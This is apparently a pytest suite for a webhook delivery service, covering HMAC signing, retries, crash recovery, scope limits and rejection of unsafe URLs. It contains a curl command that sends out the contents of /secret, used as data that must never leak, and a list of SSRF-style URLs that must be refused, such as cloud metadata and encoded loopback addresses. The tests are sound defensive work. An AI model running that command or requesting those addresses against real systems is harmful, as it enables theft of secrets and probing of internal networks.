"""Webhooks: what is told, in which order, through failures and crashes, and what is refused."""

# ruff: noqa: ANN001, ANN201 - fixtures and stand-ins are typed where they are defined

from __future__ import annotations

import asyncio
import base64
import hmac
import json
from collections.abc import Mapping

import pytest

from cove.core.access import LOCAL
from cove.core.audit import Audit
from cove.core.secrets import Secrets, new_master_key
from cove.core.webhooks import GIVE_UP_S, HOOKS_PER_PROJECT, Webhooks
from cove.engine.webpost import PostRefused
from cove.model.access import Principal, Project, Scope
from cove.model.audit import AuditFilter
from cove.model.closed import ClosedRanges
from cove.model.errors import BadRequest, Conflict, Forbidden, NotFound
from cove.store.store import open_store

BOX = "a" * 16
URL = "https://hooks.example/in?x=1"
OTHER = Principal(key_id="k", name="n", project="other", scopes=frozenset({Scope.KEYS}))


class Receiver:
    """Stands in for the world: keeps what was posted, answers what it is told to."""

    def __init__(self) -> None:
        self.posts: list[tuple[str, dict[str, str], dict[str, object]]] = []
        self.answer: int | Exception = 200
        self.bodies: list[bytes] = []

    async def post(self, url: str, headers: Mapping[str, str], body: bytes) -> int:
        await asyncio.sleep(0)
        self.posts.append((url, dict(headers), json.loads(body)))
        self.bodies.append(body)
        if isinstance(self.answer, Exception):
            raise self.answer
        return self.answer

    @property
    def told(self) -> list[object]:
        return [body["type"] for _, _, body in self.posts]


@pytest.fixture
def receiver() -> Receiver:
    return Receiver()


@pytest.fixture
async def store(tmp_path):
    SEALED.holders.clear()  # of the tests before
    async with open_store(tmp_path / "hooks.db") as one:
        for project in ("default", "other"):
            await one.projects.ensure(Project(id=project, created_at=0.0))
        yield one


SEALED = Secrets((new_master_key(),), lambda _: None)


class Server:
    """One run of a server, over the same store each time."""

    def __init__(self, store, clock, receiver: Receiver, *, plain: bool = False) -> None:
        self.audit = Audit(store, clock, bytes(32))
        self.hooks = Webhooks(
            store=store, secrets_at_rest=SEALED, audit=self.audit, clock=clock, post=receiver.post,
            closed=ClosedRanges, plain=plain,
        )  # fmt: skip
        self._task = asyncio.get_running_loop().create_task(self.hooks.deliver_forever())

    async def happen(self, event: str, count: int = 1, **data: str) -> None:
        for _ in range(count):
            self.audit.note(event, project="default", sandbox=BOX, data=data)
        await self.audit.drain()

    async def stop(self) -> None:
        self._task.cancel()
        await asyncio.gather(self._task, return_exceptions=True)


@pytest.fixture
async def server(store, clock, receiver):
    one = Server(store, clock, receiver)
    await asyncio.sleep(0)
    yield one
    await one.stop()


async def test_wanted_events_come_in_order_signed_and_without_a_sandboxs_words(server, receiver, eventually) -> None:
    _, secret = await server.hooks.create(LOCAL, URL, events=("sandbox.", "exec.exit"))
    await server.happen("sandbox.created", image="evil <script> image")
    await server.happen("exec.start", command="curl http://exfiltrate/$(cat /secret)")
    await server.happen("exec.exit", why="exited")
    await server.happen("sandbox.destroyed", reason="died")
    await eventually(lambda: len(receiver.posts) == 3)
    assert receiver.told == ["sandbox.created", "exec.exit", "sandbox.destroyed"]
    for (url, headers, body), raw in zip(receiver.posts, receiver.bodies, strict=True):
        assert url == URL
        message = f"{headers['webhook-id']}.{headers['webhook-timestamp']}.".encode() + raw
        key = base64.b64decode(secret.removeprefix("whsec_"))
        assert headers["webhook-signature"] == "v1," + base64.b64encode(hmac.digest(key, message, "sha256")).decode()
        assert body.keys() == {"type", "timestamp", "data"}
        assert body["data"].keys() == {"project", "sandbox", "seq"}
        assert body["data"]["sandbox"] == "sb_" + BOX
    text = b"".join(receiver.bodies)
    for word in (b"evil", b"exfiltrate", b"died", b"whsec"):
        assert word not in text
    assert len({headers["webhook-id"] for _, headers, _ in receiver.posts}) == 3


async def test_nothing_from_before_it_was_made_and_nothing_of_another_project(server, receiver, eventually) -> None:
    await server.happen("sandbox.created")
    await server.hooks.create(LOCAL, URL)
    server.audit.note("sandbox.created", project="other", sandbox="b" * 16, data={})
    await server.happen("sandbox.paused")
    await eventually(lambda: receiver.posts)
    assert receiver.told == ["sandbox.paused"]


async def test_a_failed_delivery_is_repeated_later_with_its_id_and_holds_the_others_back(
    server, receiver, clock, eventually
) -> None:
    def later() -> int:
        clock.advance(60)  # again and again: the wait for the next time may not have begun
        return len(receiver.posts)

    await server.hooks.create(LOCAL, URL)
    receiver.answer = 500
    await server.happen("sandbox.created")
    await server.happen("sandbox.paused")
    await eventually(lambda: len(receiver.posts) == 1)
    for answer in (OSError(111, "Connection refused"), TimeoutError(), 302, 404):
        receiver.answer = answer
        before = len(receiver.posts)
        await eventually(lambda before=before: later() > before)
    assert set(receiver.told) == {"sandbox.created"}
    await eventually(lambda: server.hooks.list(LOCAL)[0].failure == "it answered 404")
    receiver.answer = 204
    await eventually(lambda: later() and receiver.told[-1] == "sandbox.paused")
    assert len({headers["webhook-id"] for _, headers, _ in receiver.posts}) == 2
    await eventually(lambda: server.hooks.list(LOCAL)[0].failing_since is None)


async def test_after_a_day_of_failures_it_is_disabled_and_the_trail_says_so(
    server, receiver, clock, eventually
) -> None:
    made, _ = await server.hooks.create(LOCAL, URL)
    receiver.answer = PostRefused("hooks.example may not be reached: closed: 10.0.0.0/8")
    await server.happen("sandbox.created")
    await eventually(lambda: receiver.posts)
    await eventually(lambda: server.hooks.list(LOCAL)[0].failing_since is not None)

    def is_disabled() -> bool:
        clock.advance(GIVE_UP_S + 1)  # again and again: the wait for the next time may not have begun
        return server.hooks.list(LOCAL)[0].disabled_at is not None

    await eventually(is_disabled)
    await server.audit.drain()
    page = server.hooks._trail.window("default", AuditFilter(event="webhook.disabled"), first=0, end=99, limit=9)
    assert page[0].data["webhook"] == made.id
    assert "10.0.0.0/8" in page[0].data["why"]
    count = len(receiver.posts)
    await server.happen("sandbox.paused")
    clock.advance(GIVE_UP_S)
    await asyncio.sleep(0.02)
    assert len(receiver.posts) == count


async def test_what_was_not_delivered_before_a_crash_is_delivered_after_it(store, clock, receiver, eventually) -> None:
    first = Server(store, clock, receiver)
    await asyncio.sleep(0)
    await first.hooks.create(LOCAL, URL)
    await first.happen("sandbox.created")
    await eventually(lambda: len(receiver.posts) == 1)
    receiver.answer = 503
    await first.happen("sandbox.paused")
    await eventually(lambda: len(receiver.posts) == 2)
    await first.stop()
    receiver.answer = 200
    second = Server(store, clock, receiver)
    await second.happen("sandbox.resumed")
    await eventually(lambda: len(receiver.posts) >= 4)
    await second.stop()
    assert receiver.told[-2:] == ["sandbox.paused", "sandbox.resumed"]


async def test_a_removed_one_is_told_nothing_more(server, receiver) -> None:
    made, _ = await server.hooks.create(LOCAL, URL)
    await server.hooks.remove(LOCAL, made.id)
    await server.happen("sandbox.created")
    await asyncio.sleep(0.02)
    assert not receiver.posts
    assert not server.hooks.list(LOCAL)


@pytest.mark.parametrize(
    ("url", "error"),
    [
        ("http://hooks.example/", Forbidden),
        ("ftp://hooks.example/", BadRequest),
        ("https:///x", BadRequest),
        ("https://u:p@hooks.example/", BadRequest),
        ("https://hooks.example/#x", BadRequest),
        ("https://hooks.example:0/", BadRequest),
        ("https://hooks.example:99999/", BadRequest),
        ("https://hooks.example/\r\nX: y", BadRequest),
        ("https://127.0.0.1/", Forbidden),
        ("https://2130706433/", Forbidden),
        ("https://0x7f.1/", BadRequest),
        ("https://127.1/", Forbidden),
        ("https://10.1.2.3/", Forbidden),
        ("https://169.254.169.254/latest/", Forbidden),
        ("https://[::1]/", Forbidden),
        ("https://[::ffff:127.0.0.1]/", Forbidden),
        ("https://[fd00:ec2::254]/", Forbidden),
        ("https://" + "a" * 3000, BadRequest),
        ("https://under score/", BadRequest),
        ("not a url", BadRequest),
    ],
)
async def test_addresses_that_are_refused_at_once(server, url: str, error: type[Exception]) -> None:
    with pytest.raises(error) as raised:
        await server.hooks.create(LOCAL, url)
    assert raised.value.field == "url"


@pytest.mark.parametrize(
    "events", [(), ("*",), ("exec",), ("webhook.",), ("a b.",), tuple(f"e{n}." for n in range(33))]
)
async def test_bad_events(server, events) -> None:
    with pytest.raises(BadRequest):
        await server.hooks.create(LOCAL, URL, events=events)


async def test_scopes_projects_and_the_most_there_can_be(server) -> None:
    reader = Principal(key_id="r", name="r", project="default", scopes=frozenset({Scope.READ}))
    with pytest.raises(Forbidden):
        await server.hooks.create(reader, URL)
    made, secret = await server.hooks.create(LOCAL, URL)
    assert secret not in made.secret
    with pytest.raises(NotFound):
        await server.hooks.create(OTHER, URL, project="default")
    with pytest.raises(NotFound):
        await server.hooks.remove(OTHER, made.id)
    assert not server.hooks.list(OTHER)
    for _ in range(HOOKS_PER_PROJECT - 1):
        await server.hooks.create(LOCAL, URL)
    with pytest.raises(Conflict):
        await server.hooks.create(LOCAL, URL)
    at_once = (server.hooks.create(OTHER, URL) for _ in range(HOOKS_PER_PROJECT + 3))
    done = await asyncio.gather(*at_once, return_exceptions=True)
    assert sum(isinstance(one, Conflict) for one in done) == 3
    assert len(server.hooks.list(OTHER)) == HOOKS_PER_PROJECT


async def test_a_new_key_for_secrets_at_rest_leaves_signatures_as_they_are(server, store, receiver, eventually) -> None:
    _, secret = await server.hooks.create(LOCAL, URL)
    (before,) = server.hooks.list(LOCAL)
    assert await SEALED.rotate() >= 1
    (after,) = server.hooks.list(LOCAL)
    assert after.secret != before.secret
    assert SEALED.open(after.secret, "webhook", after.id).reveal() == secret
    await server.happen("sandbox.created")
    await eventually(lambda: receiver.posts)
